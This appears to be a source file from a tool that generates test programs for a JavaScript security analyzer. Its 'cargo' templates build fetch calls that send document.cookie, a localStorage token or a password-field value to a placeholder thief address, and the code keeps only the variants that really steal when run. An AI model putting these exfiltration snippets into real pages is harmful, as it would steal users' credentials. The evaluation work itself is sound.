import type { RealEngine } from "./engines/real-engine.ts";
import { holesFrom } from "./holes.ts";
import { TO_THIEF } from "./placements/placement.ts";
import { finishProgram, startProgram } from "./program.ts";
import type { Thief } from "./search.ts";
import { type Secret, stealing } from "./secrets.ts";
import type { Template } from "./template.ts";

/**
 * What programs carry in the places of the texts of their template: nothing is computed then, but what arrives depends on
 * whether the analyzer knows which way objects, calls and assignments take it.
 */
export interface Cargo {
	/** `carried/name`, unique. */
	readonly name: string;
	/** Expressions; only the first steals when it is used. */
	readonly expressions: readonly [string, ...string[]];
	/** @returns statements that use what has arrived */
	readonly use: (value: string) => string;
}

/** All kinds of cargo. */
export const cargos: readonly Cargo[] = [
	{
		name: "carried/address",
		expressions: [`"${TO_THIEF}"`, '"/a?c="'],
		use: (value) => `fetch((${value}) + document.cookie);`,
	},
	{
		name: "carried/object",
		expressions: [`({ to: "${TO_THIEF}" })`, '({ to: "/a?c=" })'],
		use: (value) => `fetch((${value}).to + document.cookie);`,
	},
	{
		name: "carried/name",
		expressions: ['"cookie"', '"title"'],
		use: (value) => `fetch("${TO_THIEF}" + document[${value}]);`,
	},
	{
		name: "carried/half of a name",
		expressions: ['"kie"', '"rner"'],
		use: (value) => `fetch("${TO_THIEF}" + document["coo" + (${value})]);`,
	},
	{
		name: "carried/storage",
		expressions: ["localStorage", '({ getItem: () => "none" })'],
		use: (value) => `fetch("${TO_THIEF}" + (${value}).getItem("token"));`,
	},
	{
		name: "carried/field",
		expressions: ['document.querySelector("[type=password]")', '({ value: "none" })'],
		use: (value) => `fetch("${TO_THIEF}" + (${value}).value);`,
	},
	{
		name: "carried/source",
		expressions: ["document", '({ cookie: "none" })'],
		use: (value) => `fetch("${TO_THIEF}" + (${value}).cookie);`,
	},
	{
		name: "carried/sender",
		expressions: ["fetch", "(() => 0)"],
		use: (value) => `(${value})("${TO_THIEF}" + document.cookie);`,
	},
];

/** A program to make of a template that carries something. */
export interface CarrierOrder {
	readonly template: Template;
	readonly cargo: Cargo;
	/** What is stolen by a cargo that does not read it itself. */
	readonly secret: Secret;
	readonly seed: number;
	readonly isPlain: boolean;
	/** Whether the template uses its value in a later task. */
	readonly isLate: boolean;
}

/**
 * Makes programs that carry something, and keeps those that steal when they are run.
 * @param engine runs them
 * @param orders what to make
 * @returns the thieves, none with the text of another
 */
export async function makeCarriers(engine: RealEngine, orders: readonly CarrierOrder[]): Promise<Thief[]> {
	const made = new Map<string, Thief>();
	for (const order of orders) {
		const { template, cargo, secret, seed, isPlain, isLate } = order;
		const started = startProgram(template, holesFrom(seed, 0, cargo.expressions), isPlain);
		const code = finishProgram(started, stealing(cargo.use(started.value), secret));
		if (made.has(code) || !code.includes(cargo.expressions[0])) continue;
		const again = (other: number) => makeCarriers(engine, [{ ...order, seed: other, isPlain: true }]);
		made.set(code, {
			template: template.name,
			placement: cargo.name,
			seed,
			code,
			isLate,
			real: "what it carries",
			again,
		});
	}
	const all = [...made.values()];
	const stolen = await engine.thefts(all);
	return all.filter((_, at) => stolen[at]);
}
